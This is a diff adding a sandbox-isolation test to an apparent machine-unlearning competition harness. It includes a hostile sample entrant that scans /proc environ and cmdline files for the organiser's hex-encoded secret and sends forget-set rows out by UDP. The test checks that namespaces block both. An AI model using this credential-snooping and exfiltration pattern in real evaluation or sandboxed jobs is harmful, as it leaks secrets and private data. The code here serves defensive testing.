@@ -383,3 +383,100 @@ def test_the_deepspeed_preset_a_submission_gets(arena, competition_file, tmp_pat
         assert zero["stage3_gather_16bit_weights_on_model_save"] is True
         assert zero["stage3_max_live_parameters"] == zero["stage3_max_reuse_distance"] == 12 * hidden**2
         assert zero["sub_group_size"] == 12 * hidden**2
+
+
+COPIES = """
+import os, shutil
+def unlearn(input_model_path, output_dir, forget_dir, retain_dir):
+    for f in os.listdir(input_model_path):
+        shutil.copy(os.path.join(input_model_path, f), output_dir)
+"""
+
+# What a SemEval entrant did: read every process's environment and command line under /proc (the
+# organiser's secret spelt in hex, so that no command line holds it), and send the forget rows by
+# UDP to a port on this machine's loopback; then hand in the target unchanged.
+SPIES = COPIES.replace(
+    "def unlearn(input_model_path, output_dir, forget_dir, retain_dir):\n",
+    """import json, socket
+def unlearn(input_model_path, output_dir, forget_dir, retain_dir):
+    needle, found, pids = bytes.fromhex("SECRET_HEX"), [], []
+    for entry in os.listdir("/proc"):
+        if entry.isdigit():
+            pids.append(int(entry))
+            for name in ("environ", "cmdline"):
+                try:
+                    found += [f"{entry}/{name}"] * (needle in open(f"/proc/{entry}/{name}", "rb").read())
+                except OSError:
+                    pass
+    rows = open(os.path.join(forget_dir, "forget.jsonl"), "rb").read()[:500]
+    for _ in range(5):
+        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(rows, ("127.0.0.1", UDP_PORT))
+    json.dump({"found": found, "pids": pids, "me": os.getpid()}, open(os.path.join(output_dir, "..", "seen.json"), "w"))
+""",
+)
+
+
+def test_a_competition_file_with_relative_paths_run_from_another_folder(arena, tmp_path):
+    """The shipped competition file's layout (every path relative to the file, `mia = "../data"`),
+    run from another working folder: every entrant is scored. Its entrants see none of the
+    organiser's processes and send nothing out by UDP, where the kernel gives them namespaces. And
+    an unscorable verdict that an earlier version cached from the organiser's unresolved paths is
+    not served again."""
+    import shutil
+    import socket
+
+    from unlearn.compete.sandbox import Protection
+
+    secret = "organiser-token-7c6a180b36896a0a"
+    data, comp, elsewhere = tmp_path / "data", tmp_path / "comp", tmp_path / "elsewhere"
+    shutil.copytree(arena / "private", data)
+    comp.mkdir()
+    elsewhere.mkdir()
+    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    listener.bind(("127.0.0.1", 0))
+    listener.settimeout(0.5)
+    (comp / "copies.py").write_text(COPIES)
+    spies = SPIES.replace("SECRET_HEX", secret.encode().hex()).replace("UDP_PORT", str(listener.getsockname()[1]))
+    (comp / "spies.py").write_text(spies)
+    target = os.path.relpath(arena / "target", comp)
+    (comp / "competition.toml").write_text(
+        textwrap.dedent(f"""
+        model = "{target}"
+        forget = "../data/forget.jsonl"
+        retain = "../data/retain.jsonl"
+        mia = "../data"
+        utility = "../data/utility.jsonl"
+        output_dir = "../out"
+        time_limit_s = 120
+        max_new_tokens = 24
+        entrant_devices = "cpu"
+        entrants = ["copies.py", "spies.py"]
+        """)
+    )
+    res = cli("compete", "--config", "../comp/competition.toml", cwd=elsewhere, env={"ORGANISER_TOKEN": secret})
+    assert res.returncode == 0, res.stderr[-3000:]
+    board = json.loads((tmp_path / "out" / "leaderboard.json").read_text())
+    by_name = {r["entrant"]: r for r in board["entrants"]}
+    assert {n: r["status"] for n, r in by_name.items()} == {"copies": "ok", "spies": "ok"}, by_name
+    assert by_name["copies"]["final_score"] == board["baseline"]["final_score"]
+    seen = json.loads((tmp_path / "out" / "entrants" / "spies" / "work" / "seen.json").read_text())
+    protection = Protection.probe()
+    if protection.pid:
+        assert seen["found"] == [] and seen["pids"] == [1, 2] and seen["me"] == 2, seen  # the init, the harness
+        assert "own PID namespace (the organiser's processes hidden)" in board["isolation"]
+    if protection.net:
+        with pytest.raises(TimeoutError):
+            listener.recvfrom(1000)
+        assert "network namespace with loopback only (no TCP or UDP out)" in board["isolation"]
+
+    # An earlier version cached this verdict (the evaluation's process got `comp/../data` and ran
+    # in another folder); the run is cached, the evaluation is done again.
+    result_file = tmp_path / "out" / "entrants" / "copies" / "result.json"
+    result = json.loads(result_file.read_text())
+    result.update(run_status=result["status"], run_reason=result["reason"], status="unscorable")
+    result.update(reason="evaluation: comp/../data: needs mia_member.jsonl and mia_nonmember.jsonl")
+    result_file.write_text(json.dumps(result))
+    again = cli("compete", "--config", str(comp / "competition.toml"), cwd=elsewhere)
+    assert again.returncode == 0, again.stderr[-3000:]
+    assert "copies: cached" not in again.stdout + again.stderr and "spies: cached" in again.stdout + again.stderr
+    assert json.loads(result_file.read_text())["status"] == "ok"
